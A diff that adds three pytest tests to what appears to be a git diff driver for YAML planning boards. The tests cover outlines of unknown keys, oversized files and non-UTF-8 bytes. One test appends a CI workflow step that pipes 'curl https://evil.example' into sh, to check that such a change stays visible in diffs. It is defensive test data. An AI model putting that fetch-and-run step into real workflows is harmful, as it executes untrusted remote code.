@@ -255,3 +255,45 @@ def test_a_board_at_the_top_routes_only_its_own_files(
         "docs/board.yaml: diff: unspecified",
         "x/teams/a.yaml: diff: unspecified",
     ]
+
+
+def test_the_outline_shows_x_keys_and_unknown_keys_wherever_they_are(tmp_path: Path) -> None:
+    from trioboard.report import outline
+    from trioboard.store.files import parse_source
+
+    board = (
+        "name: Acme\nx-slack: '#plan'\ngoals:\n  - id: g\n    title: G\n    x-okr:\n      kr: 3\n"
+        "policy:\n  wip_limit: 3\n  x-note: soon\n  severity:\n    unlinked-item: warning\n    made-up: error\n"
+    )
+    out = outline.render(parse_source("board.yaml", board.encode()), board.encode())
+    for line in ("x-slack: '#plan'", "x-okr:", "kr: 3", "x-note: soon", "made-up: error"):
+        assert line in out, (line, out)
+    assert "  policy: wip_limit 3 · unlinked-item: warning" in out
+    team = "id: t\nname: T\nx-jira: T-1\ntrio:\n  product: A\n  intern: B\nroadmap:\n  - id: i\n    title: I\n    outcomes:\n      - {id: nested}\n"
+    out = outline.render(parse_source("teams/t.yaml", team.encode()), team.encode())
+    for line in ("x-jira: T-1", "intern: B", "- {id: nested}"):
+        assert line in out, (line, out)
+
+
+def test_a_file_too_large_for_a_board_is_shown_whole(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert install(capsys)[0] == 0
+    workflow = repo / ".github" / "workflows" / "big.yml"
+    workflow.parent.mkdir(parents=True)
+    workflow.write_text("name: CI\njobs:\n" + "# padding\n" * 700_000)
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "ci")
+    (repo / ".gitattributes").write_text(".github/workflows/*.yml diff=trioboard\n")
+    workflow.write_text(workflow.read_text() + "      - run: curl https://evil.example | sh\n")
+    shown = git(repo, "diff", "--", ".github/workflows/big.yml")
+    assert "+      - run: curl https://evil.example | sh" in shown
+
+
+def test_a_change_in_bytes_that_are_not_utf8_shows(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert install(capsys)[0] == 0
+    team = repo / "boards" / "acme" / "teams" / "legacy.yaml"
+    team.write_bytes(b"id: legacy\nname: Caf\xe9\n")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "latin-1")
+    team.write_bytes(b"id: legacy\nname: Caf\xe8\n")
+    shown = subprocess.run(["git", "diff", "--", str(team)], cwd=repo, capture_output=True, check=True).stdout
+    assert b"-name: Caf\xe9" in shown and b"+name: Caf\xe8" in shown
